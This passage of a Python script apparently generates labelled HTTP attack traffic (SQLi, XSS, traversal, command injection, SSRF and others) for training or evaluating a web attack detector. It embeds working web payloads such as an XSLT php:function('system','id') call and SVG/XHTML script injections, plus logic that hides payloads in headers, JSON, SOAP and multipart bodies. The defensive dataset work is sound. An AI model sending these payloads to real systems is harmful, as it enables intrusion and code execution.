    ("php", '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">\n'
     '<xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template>\n</xsl:stylesheet>\n',
     "XSLT php:function('system')"),
    ("xss", '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>\n',
     "SVG document with onload"),
    ("xss", '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n',
     "XHTML document with script"),
    ("xss", '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="data:text/xsl;base64,PHhzbDpzdHlsZXNoZWV0Lz4="?>\n<a:b xmlns:a="http://www.w3.org/1999/xhtml"><a:script>alert(1)</a:script></a:b>\n',
     "XML with an XHTML-namespaced script element"),
]
for _cls, _doc, _note in XML_DOC_CASES:
    assert _cls in ("traversal", "rfi", "ssrf", "java", "php", "xss"), _cls
ATTACK_SPEC = {
    "sqli": (SQLI_GROUPS, SQLI_EVASIONS, SQLI_RAW, SQLI_TRANSFORMS),
    "xss": (XSS_GROUPS, XSS_EVASIONS, XSS_RAW, XSS_TRANSFORMS),
    "traversal": (TRAV_GROUPS, TRAV_EVASIONS, TRAV_RAW, TRAV_TRANSFORMS),
    "cmdi": (CMDI_GROUPS, CMDI_EVASIONS, CMDI_RAW, CMDI_TRANSFORMS),
    "crlf": (CRLF_GROUPS, CRLF_EVASIONS, CRLF_RAW, CRLF_TRANSFORMS),
    "php": (PHP_GROUPS, PHP_EVASIONS, PHP_RAW, PHP_TRANSFORMS),
    "java": (JAVA_GROUPS, JAVA_EVASIONS, JAVA_RAW, JAVA_TRANSFORMS),
    "rfi": (RFI_GROUPS, RFI_EVASIONS, RFI_RAW, RFI_TRANSFORMS),
    "nosqli": (NOSQLI_GROUPS, NOSQLI_EVASIONS, NOSQLI_RAW, NOSQLI_TRANSFORMS),
    "ssrf": (SSRF_GROUPS, SSRF_EVASIONS + SSRF_HOSTS, SSRF_RAW, SSRF_TRANSFORMS),
}
assert set(ATTACK_SPEC) == set(CLASSES)

QS_LOCS = ("qs", "form_qs")
DOC_LOCS = ("xml_doc", "mp_xml")
XXE_LOCS = ("xml_xxe", "mp_svg")
HEADERISH_LOCS = ("header", "user_agent", "referer")


def build_cases(rng):
    cases = {c: [] for c in CLASSES}
    seen = set()

    def add(case):
        k = (case.cls, case.text, case.raw, case.locs, case.jesc, case.xesc, case.ext, case.ref)
        if k not in seen:
            seen.add(k)
            cases[case.cls].append(case)

    for cls, (groups, evasions, raws, transforms) in ATTACK_SPEC.items():
        group_of = {}
        for note, items in groups:
            for p in items:
                group_of.setdefault(p, note)
                locs = None
                if note == "Shellshock":
                    locs = ("user_agent", "header", "referer", "cookie")
                add(Case(cls, p, note, locs=locs))
        for p, note in evasions:
            locs = None
            if cls == "crlf" and note in CRLF_HEADERISH:
                locs = ("header", "user_agent", "cookie", "json")
            add(Case(cls, p, note, locs=locs))
        for p, note in raws:
            add(Case(cls, p, note, raw=True))
        for note, fn, kind, sources in transforms:
            for src in sources:
                assert src in group_of, (cls, src)
                label = "%s; %s" % (group_of[src], note)
                if kind == "raw":
                    add(Case(cls, fn(src, rng), label, raw=True, base=src))
                elif kind == "plain":
                    add(Case(cls, fn(src, rng), label))
                elif kind.startswith("xml"):  # "xml:<chars>": numeric character references in XML
                    add(Case(cls, src, label, locs=("xml",), xesc=kind.split(":", 1)[1]))
                else:  # "json" or "json:<chars>"
                    chars = kind.split(":", 1)[1] if ":" in kind else {
                        "sqli": "'", "xss": "<>"}.get(cls, "")
                    add(Case(cls, src, label, locs=("json",), jesc=chars))
    for p, note in TRAV_PATH_ONLY_RAW:
        add(Case("traversal", p, note, raw=True, locs=("path_abs",)))
    for p, note in JAVA_HEADER_ONLY:
        add(Case("java", p, note, locs=HEADERISH_LOCS))
    for cls, objs in (("java", JAVA_JSON_OBJ), ("nosqli", NOSQLI_OBJ)):
        for obj, note in objs:
            t = json.dumps(obj)
            add(Case(cls, t, note, locs=("json",), obj=obj, base=t))
    for cls, items in (("java", [(q, n, "query_name") for q, n in JAVA_QS]), ("rfi", RFI_QS),
                       ("nosqli", [(q, n, "query_name") for q, n in NOSQLI_QS])):
        for q, note, label in items:
            add(Case(cls, q, note, raw=True, locs=QS_LOCS, label=label))
    for p, note in JAVA_CTYPE:
        add(Case("java", p, note, locs=("ctype",)))
    for doc, note in JAVA_XML_DOCS:
        add(Case("java", doc, note, locs=DOC_LOCS))
    for cls, doc, note in XML_DOC_CASES:
        add(Case(cls, doc, note, locs=DOC_LOCS))
    for cls, subset, ext, ref, note in XXE_CASES:
        add(Case(cls, subset, note, locs=XXE_LOCS, ext=ext, ref=ref, base=subset or ext))
    return cases


# ---------------------------------------------------------------------------
# 3. Attack placement
# ---------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
]
TOOL_UAS = [
    "curl/8.5.0", "curl/7.81.0", "python-requests/2.31.0", "Go-http-client/1.1", "Go-http-client/2.0",
    "okhttp/4.12.0", "PostmanRuntime/7.37.3", "Wget/1.21.4", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Dart/3.3 (dart:io)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
    "MyCompanyApp/3.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Twitterbot/1.0", "kube-probe/1.29", "ELB-HealthChecker/2.0", "Prometheus/2.51.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.60 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
]

CTX = {
    "sqli": dict(
        params=["id", "user_id", "q", "search", "sort", "order", "category", "username", "email", "product", "filter"],
        qpaths=["/api/search", "/api/products", "/api/users", "/catalog/items", "/api/v1/orders", "/reports/sales"],
        ppaths=["/api/users/{}", "/api/products/{}/reviews", "/shop/category/{}", "/api/v1/orders/{}"],
        headers=["X-Forwarded-For", "X-Client-Id", "X-Tenant-Id", "X-Api-Version", "X-Device-Id"],
        cookies=["user_id", "cart_id", "tracking_id", "lang"],
        json=[("POST", "/api/search", lambda v: {"filter": {"name": v, "limit": 20}, "page": 1}),
              ("POST", "/api/login", lambda v: {"user": {"email": v, "password": "hunter2"}}),
              ("PUT", "/api/v1/reports/7", lambda v: {"query": {"sort": v, "columns": ["id", "total"]}}),
              ("PATCH", "/api/users/42", lambda v: {"profile": {"nickname": v}})],
        form=[("POST", "/login", "username", lambda f: f + "&password=hunter2&remember=on"),
              ("POST", "/search", "q", lambda f: "type=products&" + f),
              ("POST", "/account/lookup", "email", lambda f: f + "&submit=Find")],
        mp=[("POST", "/api/import", "customer_id"), ("POST", "/upload", "album")],
        weights={"query": 30, "json": 16, "form": 15, "path": 8, "cookie": 8, "header": 7,
                 "user_agent": 4, "referer": 4, "multipart": 6, "query_name": 3}),
    "xss": dict(
        params=["q", "search", "name", "message", "comment", "title", "callback", "returnUrl", "error", "msg"],
        qpaths=["/search", "/api/search", "/comments", "/error", "/profile", "/api/v2/messages", "/oauth/callback"],
        ppaths=["/search/{}", "/u/{}/profile", "/wiki/{}", "/tags/{}"],
        headers=["X-Display-Name", "X-Forwarded-Host", "X-Request-Source", "X-Client-Name", "X-Custom-Message"],
        cookies=["display_name", "last_search", "theme", "flash"],
        json=[("POST", "/api/comments", lambda v: {"comment": {"body": v, "author": "jdoe"}, "post_id": 118}),
              ("PUT", "/api/profile", lambda v: {"profile": {"display_name": v, "bio": "hi"}}),
              ("POST", "/api/v1/boards/3/cards", lambda v: {"items": [{"title": "todo"}, {"title": v}]}),
              ("PATCH", "/api/pages/home", lambda v: {"blocks": [{"type": "html", "content": {"html": v}}]})],
        form=[("POST", "/comments", "comment", lambda f: "post=118&name=Jane&" + f),
              ("POST", "/guestbook", "message", lambda f: "name=visitor&" + f),
              ("POST", "/profile/edit", "bio", lambda f: f + "&save=1")],
        mp=[("POST", "/api/upload", "description"), ("POST", "/support/ticket", "subject")],
        weights={"query": 25, "json": 20, "form": 12, "multipart": 8, "path": 5, "referer": 8,
                 "user_agent": 6, "header": 6, "cookie": 6, "query_name": 3}),
    "traversal": dict(
        params=["file", "path", "filename", "template", "page", "doc", "include", "download", "folder", "img", "view"],
        qpaths=["/download", "/api/files", "/view", "/render", "/static/get", "/api/v1/export", "/index.php"],
        ppaths=["/static/{}", "/download/{}", "/api/files/{}", "/assets/{}", "/images/{}"],
        headers=["X-Original-URL", "X-Rewrite-URL", "X-File-Path", "X-Template", "X-Locale"],
        cookies=["lang", "template", "theme_path", "skin"],
        json=[("POST", "/api/render", lambda v: {"template": v, "vars": {"name": "x"}}),
              ("POST", "/api/v1/attachments", lambda v: {"attachment": {"path": v, "inline": False}}),
              ("PUT", "/api/exports/9", lambda v: {"export": {"file": v, "format": "csv"}}),
              ("PATCH", "/api/settings", lambda v: {"appearance": {"theme": {"stylesheet": v}}})],
        form=[("POST", "/admin/backup/restore", "archive", lambda f: f + "&confirm=yes"),
              ("POST", "/render", "template", lambda f: "title=Hi&" + f),
              ("POST", "/files/read", "path", lambda f: f)],
        mp=[("POST", "/api/upload", "file"), ("POST", "/avatar", "avatar")],
        weights={"path": 30, "query": 25, "json": 10, "form": 6, "multipart": 8, "cookie": 6,
                 "header": 6, "referer": 2, "query_name": 2, "user_agent": 1}),
    "cmdi": dict(
        params=["host", "ip", "domain", "target", "cmd", "exec", "filename", "address", "server", "count"],
        qpaths=["/api/tools/ping", "/api/diagnostics/traceroute", "/admin/dns", "/api/convert", "/api/v1/whois", "/cgi-bin/status"],
        ppaths=["/api/tools/ping/{}", "/api/dns/lookup/{}", "/cgi-bin/{}"],
        headers=["X-Forwarded-For", "X-Device-Id", "X-Hostname", "X-Client-Host", "X-Callback-Host"],
        cookies=["host", "tz", "device", "printer"],
        json=[("POST", "/api/tools/ping", lambda v: {"host": v, "count": 3}),
              ("POST", "/api/v1/diagnostics", lambda v: {"target": {"address": v, "timeout": 5}}),
              ("PUT", "/api/convert/jobs/5", lambda v: {"job": {"input": {"filename": v}, "format": "pdf"}}),
              ("PATCH", "/api/devices/77", lambda v: {"network": {"ntp_server": v}})],
        form=[("POST", "/admin/ping", "ip", lambda f: f + "&submit=Ping"),
              ("POST", "/tools/nslookup", "domain", lambda f: "type=A&" + f),
              ("POST", "/convert", "filename", lambda f: f + "&format=png")],
        mp=[("POST", "/api/convert", "output_name"), ("POST", "/firmware/upload", "version")],
        weights={"query": 25, "json": 15, "form": 12, "multipart": 6, "header": 8, "user_agent": 8,
                 "cookie": 6, "referer": 3, "path": 5, "query_name": 2}),
    "crlf": dict(
        params=["redirect", "next", "url", "return_to", "lang", "callback", "continue", "dest", "r", "location"],
        qpaths=["/redirect", "/login", "/logout", "/api/v1/lang", "/out", "/sso/return"],
        ppaths=["/redirect/{}", "/lang/{}", "/r/{}"],
        headers=["X-Forwarded-Host", "X-Redirect-To", "X-Locale", "X-Request-Id", "X-Original-URL"],
        cookies=["lang", "redirect", "return_to"],
        json=[("POST", "/api/v1/redirects", lambda v: {"redirect_url": v, "code": 302}),
              ("POST", "/api/webhooks", lambda v: {"delivery": {"headers": {"X-Note": v}}}),
              ("PATCH", "/api/users/me", lambda v: {"preferences": {"lang": v}})],
        form=[("POST", "/login", "next", lambda f: "user=alice&pass=x&" + f),
              ("POST", "/settings/lang", "lang", lambda f: f)],
        mp=[("POST", "/api/upload", "redirect")],
        weights={"query": 40, "path": 10, "header": 12, "json": 8, "form": 8, "cookie": 8,
                 "referer": 6, "multipart": 8, "user_agent": 2, "query_name": 1}),
}


# Contexts for the new classes, XML endpoints for every class, more header names (the
# held-out evaluation found payloads in headers other than Cookie under-covered), and the
# location weights (now with xml, and more weight on header/user_agent/referer).
CTX.update({
    "php": dict(
        params=["code", "cmd", "data", "expr", "page", "file", "template", "callback", "func", "input", "q", "eval"],
        qpaths=["/index.php", "/admin/eval.php", "/api/calc.php", "/wp-admin/admin-ajax.php", "/cgi-bin/php",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.php/api/render", "/tools/debug.php"],
        ppaths=["/index.php/{}", "/page/{}", "/render/{}"],
        headers=["X-Forwarded-For", "X-Api-Version", "X-Custom-Data", "X-Template", "X-Debug-Expr"],
        cookies=["data", "prefs", "cart", "session_data", "lang"],
        json=[("POST", "/api/render", lambda v: {"template": v, "vars": {"name": "x"}}),
              ("POST", "/api/v1/formula", lambda v: {"sheet": 1, "cell": "B2", "formula": v}),
              ("PUT", "/api/settings/theme", lambda v: {"theme": {"custom_code": v}}),
              ("POST", "/api/import", lambda v: {"payload": v, "format": "php-serialized"})],
        form=[("POST", "/index.php", "page", lambda f: f + "&submit=Go"),
              ("POST", "/admin/eval.php", "code", lambda f: f),
              ("POST", "/wp-admin/admin-ajax.php", "data", lambda f: "action=save_settings&" + f)],
        mp=[("POST", "/upload.php", "avatar"), ("POST", "/wp-admin/async-upload.php", "async-upload"),
            ("POST", "/api/media", "description")],
        xml=[("/xmlrpc.php", "MethodCall", "value"), ("/api/render.xml", "RenderTemplate", "template"),
             ("/soap/Calc", "Evaluate", "expression")],
        weights={}),
    "java": dict(
        params=["q", "name", "search", "redirect", "lang", "callback", "expression", "filter", "id", "x", "template", "view"],
        qpaths=["/api/search", "/login", "/struts2-showcase/index.action", "/app/view", "/api/v1/users", "/webtools/control/main",
                "/solr/admin/cores", "/actuator/gateway/routes"],
        ppaths=["/app/{}/view", "/struts2-showcase/{}/actionChain1.action", "/doc/{}"],
        headers=["X-Api-Version", "X-Forwarded-For", "X-Request-Id", "Authorization", "X-Forwarded-Host", "True-Client-IP",
                 "X-Client-IP", "Accept-Language", "X-Custom-Header", "spring.cloud.function.routing-expression", "X-Wap-Profile"],
        cookies=["JSESSIONID", "lang", "remember", "javax.faces.ViewState", "user"],
        json=[("POST", "/api/login", lambda v: {"username": v, "password": "hunter2"}),
              ("POST", "/api/v1/import", lambda v: v if not isinstance(v, str) else {"data": v}),
              ("PUT", "/api/v1/config", lambda v: {"config": {"value": v}}),
              ("POST", "/api/events", lambda v: {"event": "signup", "properties": {"referrer": v}})],
        form=[("POST", "/login.action", "username", lambda f: f + "&password=x"),
              ("POST", "/faces/index.xhtml", "javax.faces.ViewState", lambda f: "form=form&" + f),
              ("POST", "/search", "q", lambda f: f)],
        mp=[("POST", "/struts2-showcase/fileupload/doUpload.action", "upload"), ("POST", "/api/upload", "meta")],
        xml=[("/ws/UserService", "GetUser", "username"), ("/wls-wsat/CoordinatorPortType", "Register", "participant"),
             ("/api/import.xml", "ImportRecords", "record")],
        weights={}),
    "rfi": dict(
        params=["page", "file", "include", "template", "path", "lang", "inc", "module", "view", "tpl", "layout", "theme",
                "content", "load", "pg", "doc"],
        qpaths=["/index.php", "/main.php", "/view.php", "/cms/index.php", "/portal/page.php", "/include.php", "/admin/load.php",
                "/jsp/index.jsp", "/page.asp", "/modules.php"],
        ppaths=["/index.php/page/{}", "/view/{}", "/inc/{}"],
        headers=["X-Template", "X-Include", "X-Forwarded-Host", "X-Custom-Header", "Accept-Language"],
        cookies=["lang", "template", "theme", "layout"],
        json=[("POST", "/api/render", lambda v: {"template": v, "vars": {}}),
              ("PUT", "/api/pages/about", lambda v: {"layout": {"include": v}}),
              ("POST", "/api/v1/themes", lambda v: {"name": "dark", "stylesheet_include": v})],
        form=[("POST", "/index.php", "page", lambda f: f),
              ("POST", "/admin/settings.php", "template", lambda f: "site=main&" + f),
              ("POST", "/cms/module.php", "module", lambda f: f + "&save=1")],
        mp=[("POST", "/admin/theme/upload", "include_path")],
        xml=[("/api/render.xml", "Render", "template"), ("/soap/PageService", "LoadPage", "include"),
             ("/cms/import", "ImportPage", "layoutFile")],
        weights={}),
    "nosqli": dict(
        params=["username", "password", "user", "q", "filter", "where", "search", "token", "email", "id", "query", "sort"],
        qpaths=["/api/login", "/api/users", "/api/v1/products", "/api/search", "/auth/reset", "/api/orders"],
        ppaths=["/api/users/{}", "/api/products/{}"],
        headers=["X-Filter", "X-Query", "X-Request-Id", "X-Custom-Data"],
        cookies=["user", "filter", "session_query"],
        json=[("POST", "/api/login", lambda v: {"username": "admin", "password": v}),
              ("POST", "/api/auth/signin", lambda v: {"email": v, "password": "x"}),
              ("POST", "/api/users/search", lambda v: {"filter": {"role": v}, "limit": 10}),
              ("POST", "/api/v1/products/query", lambda v: {"where": v if isinstance(v, dict) else {"name": v}}),
              ("POST", "/api/reports/aggregate", lambda v: {"pipeline": v if isinstance(v, list) else [{"$match": {"owner": v}}]}),
              ("POST", "/api/auth/reset", lambda v: {"token": v, "password": "N3w-pass!"})],
        form=[("POST", "/login", "password", lambda f: "username=admin&" + f),
              ("POST", "/api/search", "q", lambda f: f + "&page=1")],
        mp=[("POST", "/api/profile", "nickname")],
        xml=[("/api/login.xml", "Login", "password"), ("/ws/Search", "Find", "query")],
        weights={}),
    "ssrf": dict(
        params=["url", "uri", "link", "src", "image_url", "avatar_url", "webhook", "callback_url", "feed", "target", "dest",
                "proxy", "fetch", "endpoint", "remote", "imageUrl", "file_url", "host", "server"],
        qpaths=["/api/preview", "/api/fetch", "/proxy", "/api/v1/webhooks/test", "/image/resize", "/api/import/url", "/oembed",
                "/render/pdf", "/api/link-unfurl"],
        ppaths=["/proxy/{}", "/image/fetch/{}", "/api/preview/{}"],
        headers=["X-Forwarded-Host", "X-Callback-Url", "X-Wap-Profile", "X-Original-URL", "X-Custom-Header", "X-Forwarded-Server"],
        cookies=["return_url", "avatar", "feed"],
        json=[("POST", "/api/v1/webhooks", lambda v: {"webhook": {"url": v, "events": ["order.created"]}}),
              ("PUT", "/api/users/me", lambda v: {"profile": {"avatar_url": v}}),
              ("POST", "/api/import", lambda v: {"source": {"type": "url", "url": v}}),
              ("POST", "/api/pdf", lambda v: {"html_url": v, "format": "A4"}),
              ("POST", "/api/integrations/test", lambda v: {"endpoint": v, "method": "GET"})],
        form=[("POST", "/api/preview", "url", lambda f: f),
              ("POST", "/settings/webhooks", "callback_url", lambda f: "name=deploy&" + f),
              ("POST", "/profile", "avatar_url", lambda f: "nickname=sam&" + f)],
        mp=[("POST", "/api/import", "source_url")],
        xml=[("/api/feeds.xml", "AddFeed", "feedUrl"), ("/soap/Fetch", "FetchResource", "url"),
             ("/api/webhooks.xml", "CreateWebhook", "callbackUrl")],
        weights={}),
})

CTX["sqli"]["xml"] = [("/ws/UserService.asmx", "GetUser", "username"), ("/api/orders/search.xml", "SearchOrders", "orderBy"),
                      ("/soap/CustomerService", "FindCustomer", "email")]
CTX["xss"]["xml"] = [("/api/comments.xml", "AddComment", "body"), ("/soap/Profile", "UpdateProfile", "displayName"),
                     ("/feeds/import", "ImportItem", "title")]
CTX["traversal"]["xml"] = [("/ws/DocumentService", "GetDocument", "path"), ("/api/export.xml", "Export", "file"),
                           ("/soap/Templates", "Render", "template")]
CTX["cmdi"]["xml"] = [("/ws/Diagnostics", "Ping", "host"), ("/api/convert.xml", "Convert", "filename"),
                      ("/soap/Network", "Traceroute", "target")]
CTX["crlf"]["xml"] = [("/api/redirects.xml", "CreateRedirect", "location"), ("/soap/Session", "SetLanguage", "lang")]

_EXTRA_HEADERS = ["X-Forwarded-Host", "X-Api-Version", "X-Request-Id", "X-Custom-Header", "X-Custom-Data",
                  "True-Client-IP", "Accept-Language"]
for _cls in ("sqli", "xss", "traversal", "cmdi", "crlf"):
    CTX[_cls]["headers"] = CTX[_cls]["headers"] + [h for h in _EXTRA_HEADERS if h not in CTX[_cls]["headers"]]

_WEIGHTS = {
    "sqli": dict(query=26, json=16, form=16, xml=9, path=6, cookie=7, header=9, user_agent=5, referer=6, multipart=5, query_name=2),
    "xss": dict(query=22, json=17, form=11, xml=7, multipart=7, path=4, referer=9, user_agent=7, header=8, cookie=6, query_name=2),
    "traversal": dict(path=26, query=22, json=10, xml=7, form=6, multipart=8, cookie=5, header=7, referer=3, query_name=2, user_agent=2),
    "cmdi": dict(query=20, json=14, form=12, xml=7, multipart=5, header=10, user_agent=10, cookie=5, referer=5, path=4, query_name=2),
    "crlf": dict(query=30, path=9, header=12, json=7, form=8, cookie=8, referer=7, multipart=6, user_agent=3, query_name=1, xml=30),
    "php": dict(query=22, form=14, json=10, xml=8, multipart=12, cookie=8, header=7, user_agent=6, referer=5, path=5, query_name=1),
    "java": dict(header=18, user_agent=14, query=16, json=14, form=8, xml=8, cookie=6, referer=8, path=5, multipart=3, query_name=1),
    "rfi": dict(query=36, form=10, json=10, xml=8, path=6, cookie=6, header=8, referer=8, multipart=4, user_agent=3),
    "nosqli": dict(json=30, query=16, form=12, xml=30, cookie=6, header=12, path=3, referer=8, multipart=3, user_agent=4),
    "ssrf": dict(query=32, json=20, form=10, xml=9, header=8, referer=5, multipart=4, cookie=3, path=4, user_agent=2),
}
for _cls, _w in _WEIGHTS.items():
    CTX[_cls]["weights"] = _w


def rand_token(rng, n=32, alphabet="0123456789abcdef"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def rand_uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def base_headers(rng, ua=None, extra=()):
    h = [["User-Agent", ua or rng.choice(BROWSER_UAS + TOOL_UAS[:6])],
         ["Accept", rng.choice(["application/json", "*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"])]]
    if rng.random() < 0.3:
        h.append(["Accept-Language", rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "ja,en-US;q=0.7"])])
    names = {n.lower() for n, _ in extra}
    h = [x for x in h if x[0].lower() not in names]  # an explicit header replaces the filler one
    h.extend([list(x) for x in extra])
    return h


_JSON_STR = re.compile(r'"(?:[^"\\]|\\.)*"')


def json_body(obj, rng, jesc=""):
    s = json.dumps(obj, ensure_ascii=rng.random() < 0.35,
                   separators=(",", ":") if rng.random() < 0.5 else (", ", ": "))
    if jesc:  # \uXXXX escapes inside string literals only (never structural characters)
        s = _JSON_STR.sub(lambda m: "".join("\\u%04x" % ord(c) if c in jesc else c for c in m.group(0)[1:-1]).join('""'), s)
    return s


# ----- XML bodies ----------------------------------------------------------

def xml_chars_ok(s):
    """Characters allowed in an XML 1.0 document."""
    return all(c in "\t\n\r" or 0x20 <= ord(c) <= 0xD7FF or 0xE000 <= ord(c) <= 0xFFFD or ord(c) >= 0x10000 for c in s)


def xml_text(s, xesc="", rng=None, attr=False):
    """Escape for XML element text (or a double-quoted attribute value); characters in `xesc`
    become numeric character references (decimal or hex), which the parser decodes."""
    out = []
    for c in s:
        if c in xesc:
            out.append(("&#x%x;" if rng is not None and rng.random() < 0.5 else "&#%d;") % ord(c))
        elif c == "&":
            out.append("&amp;")
        elif c == "<":
            out.append("&lt;")
        elif c == ">":
            out.append("&gt;")
        elif c == "\r":
            out.append("&#13;")
        elif attr and c == '"':
            out.append("&quot;")
        elif attr and c in "\n\t":
            out.append("&#%d;" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def xml_entity_value(s):
    """Escape for an internal entity literal "..." whose replacement text is then parsed as content."""
    return "".join({"&": "&#38;#38;", "<": "&#38;#60;", '"': "&#34;", "%": "&#37;", "\r": "&#38;#13;"}.get(c, c) for c in s)


SOAP11_NS = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12_NS = "http://www.w3.org/2003/05/soap-envelope"
XML_STYLES = ("soap11", "soap12", "rest", "rest", "textxml")


def xml_wrap(rng, op, inner, style=None, doctype=None):
    """An XML request body around `inner` (markup).  `doctype(root)` returns a DOCTYPE line or ''.
    Returns (content_type, body, extra_headers)."""
    style = style or rng.choice(XML_STYLES)
    prolog = rng.choice(['<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="utf-8"?>\n',
                         '<?xml version="1.0"?>\n', ""])
    nl = "\n" if rng.random() < 0.4 else ""
    hdrs = []
    if style == "soap11":
        root = "soap:Envelope"
        body = ('<soap:Envelope xmlns:soap="%s" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">%s<soap:Body>%s'
                '<%s xmlns="http://tempuri.org/">%s%s</%s>%s</soap:Body>%s</soap:Envelope>\n'
                % (SOAP11_NS, nl, nl, op, nl, inner, op, nl, nl))
        ct = rng.choice(["text/xml; charset=utf-8", "text/xml"])
        hdrs.append(("SOAPAction", rng.choice(['"http://tempuri.org/%s"' % op, '"urn:example:%s"' % op, '""'])))
    elif style == "soap12":
        root = "env:Envelope"
        header = ('<env:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
                  '<wsse:UsernameToken><wsse:Username>svc-api</wsse:Username></wsse:UsernameToken></wsse:Security></env:Header>'
                  if rng.random() < 0.4 else "")
        body = ('<env:Envelope xmlns:env="%s">%s%s<env:Body><m:%s xmlns:m="urn:example:api">%s</m:%s></env:Body></env:Envelope>\n'
                % (SOAP12_NS, nl, header, op, inner, op))
        ct = 'application/soap+xml; charset=utf-8; action="urn:example:%s"' % op
    else:
        root = op[0].lower() + op[1:]
        body = "<%s>%s%s%s</%s>\n" % (root, nl, inner, nl, root)
        ct = rng.choice(["application/xml", "application/xml; charset=UTF-8"]) if style == "rest" else "text/xml; charset=UTF-8"
    dt = doctype(root) if doctype else ""
    return ct, prolog + dt + body, hdrs


def xml_field(rng, field, value, xesc="", mode=None):
    """Markup carrying `value` in element text, an attribute, or CDATA; returns (markup, mode)."""
    modes = ["text", "text", "attr"]
    if not xesc and "]]>" not in value and "\r" not in value:
        modes.append("cdata")
    mode = mode or rng.choice(modes)
    if mode == "text":
        return "<%s>%s</%s>" % (field, xml_text(value, xesc, rng), field), mode
    if mode == "attr":
        return '<%s type="string" value="%s"/>' % (field, xml_text(value, xesc, rng, attr=True)), mode
    if mode == "cdata":
        return "<%s><![CDATA[%s]]></%s>" % (field, value, field), mode
    if mode == "cdata_split":
        k = len(value) // 2
        return "<%s><![CDATA[%s]]><![CDATA[%s]]></%s>" % (field, value[:k], value[k:], field), mode
    raise ValueError(mode)


def json_walk_strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield k
            yield from json_walk_strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from json_walk_strings(v)


def multipart_body(rng, fields):
    """fields: list of (name, value, filename or None, content_type or None)."""
    if rng.random() < 0.5:
        boundary = "----WebKitFormBoundary" + rand_token(rng, 16, string.ascii_letters + string.digits)
    else:
        boundary = "------------------------" + rand_token(rng, 16)
    parts = []
    for name, value, filename, ctype in fields:
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        head = disp + "\r\n" + ("Content-Type: %s\r\n" % ctype if ctype else "")
        parts.append("--%s\r\n%s\r\n%s\r\n" % (boundary, head, value))
    return "multipart/form-data; boundary=" + boundary, "".join(parts) + "--%s--\r\n" % boundary


def req(method, path, query="", headers=None, content_type=None, body=None):
    return dict(method=method, path=path, query=query, headers=headers or [],
                content_type=content_type, body=body)


def qval(case, rng):
    """Wire form of a payload as a query/form value."""
    if case.raw:
        return case.text
    return pct_plus(case.text) if rng.random() < 0.3 else pct(case.text)


SPECIAL_LOCS = {"path_abs": "path", "qs": None, "form_qs": "form", "ctype": "header",
